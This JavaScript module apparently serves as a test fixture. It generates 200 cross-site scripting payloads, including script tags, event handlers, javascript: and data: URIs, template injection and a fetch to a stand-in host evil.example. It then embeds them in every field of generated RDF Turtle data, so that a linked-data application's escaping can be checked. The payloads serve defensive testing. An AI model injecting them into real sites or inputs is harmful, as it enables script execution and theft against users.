// Two hundred texts that want to be run, and data that have them wherever data can have a text.

/** What is tried to be run; `hit()` is kept by the test. */
const CALLS = ['hit()', 'alert(1)', "fetch('http://evil.example/')", 'document.title=hit()'];
const SHAPES = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'"><img src=x onerror="${call}">`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><svg/onload=${call}>`,
  (call) => `</textarea><img/src/onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  (call) => `<math><mtext><option><style><img src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="http://evil.example/"><script>${call}</script>`,
  (call) => `<link rel=stylesheet href="http://evil.example/x.css"><style>@import 'http://evil.example/';*{background:url(http://evil.example/)}</style>${call}`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<style>*{animation:x}</style><b onanimationstart=${call}>`,
  (call) => `<svg><script href="data:,${call}"/></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' style='background:url(javascript:${call})' onfocus='${call}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call.replaceAll("'", '')}')()}}`,
  (call) => `;${call};//`,
  (call) => `*/${call}/*`,
  (call) => `]]>${call}`,
  (call) => `__proto__[${call}]`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c`,
  (call) => `\u0000<img src=x onerror=${call}>`.replace('\u0000', '\u0001'),
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `=HYPERLINK("javascript:${call}")`,
];

/** All of them, each once. */
export const PAYLOADS = CALLS.flatMap((call) => SHAPES.map((shape) => shape(call)));

/** A string of Turtle. */
const string = (text) => `"${[...text].map((letter) => {
  const code = letter.codePointAt(0);
  return letter === '"' || letter === '\\' ? `\\${letter}` : code < 32 ? `\\u${code.toString(16).padStart(4, '0')}` : letter;
}).join('')}"`;

/** As much of a payload as an IRI may have in it. */
const inIri = (text) => [...text].map((letter) => (/[\u0000-\u0020<>"{}|^`\\[\]#%\u007f-\u009f\u200b-\u206f]/.test(letter) ? encodeURIComponent(letter) : letter)).join('');

/** Things, events, places, claims, sources, classes, properties and graphs that have all payloads in all positions. */
export function data() {
  const lines = [`@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> . @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> . @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix schema: <http://schema.org/> . @prefix dcterms: <http://purl.org/dc/terms/> . @prefix dip: <https://w3id.org/chancery/ontology#> . @prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix org: <http://www.w3.org/ns/org#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . @prefix ex: <https://example.org/> .
ex:hub a schema:Person ; rdfs:label "Hub" .`];
  PAYLOADS.forEach((payload, at) => {
    const text = string(payload), iri = inIri(payload);
    const scheme = at % 4 === 0 ? `<javascript:hit(${at})//${iri}>` : at % 4 === 1 ? `<data:text/html,${iri}>` : `<https://example.org/x?${iri}>`;
    lines.push(`
ex:person${at} a schema:Person , ex:Class${at % 20} ; rdfs:label ${text} ; skos:altLabel ${string(`also ${payload}`)}@en ; schema:description ${text} ; ex:knows${at % 20} ex:hub ;
  ex:says ${text} , ${string(payload)}^^<https://example.org/type?${iri}> , ${text}@x-y${at} ; ex:link ${scheme} ; owl:sameAs <http://www.wikidata.org/entity/Q${iri}> ; dcterms:source ex:source${at} .
ex:hub ex:mentions${at % 20} ex:person${at} , ${text} , ${scheme} .
${scheme} rdfs:label ${text} .
ex:source${at} a schema:Article ; rdfs:label ${text} ; schema:url ${at % 2 ? text : scheme} ; schema:publisher ${text} ; schema:datePublished ${text} .
ex:event${at} a dip:Event ; rdfs:label ${text} ; schema:startDate "20${String(10 + (at % 15)).padStart(2, '0')}-01-0${1 + (at % 9)}"^^xsd:date ; schema:location ex:place${at} ; schema:description ${text} ; dcterms:source ex:source${at} .
ex:place${at} a schema:Place ; rdfs:label ${text} ; schema:latitude "${(at % 160) - 80}"^^xsd:decimal ; schema:longitude "${((at * 7) % 340) - 170}"^^xsd:decimal .
ex:part${at} a dip:Participation ; dip:inEvent ex:event${at} ; dip:participant ex:hub ; dip:role ex:role${at} ; dip:attendance <https://w3id.org/chancery/scheme/attendance/attended> ; dcterms:source ex:source${at} .
ex:role${at} rdfs:label ${text} .
ex:claim${at} a dip:Claim ; rdfs:label ${text} ; dip:speaker ex:person${at} ; dip:act ex:act${at % 40} ; dip:quote ${text} ; schema:text ${text} ; schema:about ex:hub , ex:event${at} ; dip:reportedBy ex:medium${at % 40} ; dip:occasion ex:event${at} ; schema:dateCreated ${at % 3 ? '"2025-08-15"^^xsd:date' : text} ; dcterms:source ex:source${at} .
ex:act${at % 40} rdfs:label ${text} . ex:medium${at % 40} a org:Organization ; rdfs:label ${text} .
_:said${at} dip:speaker ex:person${at} ; dip:quote ${text} ; rdf:reifies <<( ex:hub ex:knows${at % 20} ex:person${at} )>> .`);
    if (at < 20) lines.push(`ex:Class${at} a rdfs:Class ; rdfs:label ${text} . ex:knows${at} a rdf:Property ; rdfs:label ${text} . ex:mentions${at} rdfs:label ${text} .`);
  });
  return lines.join('\n');
}
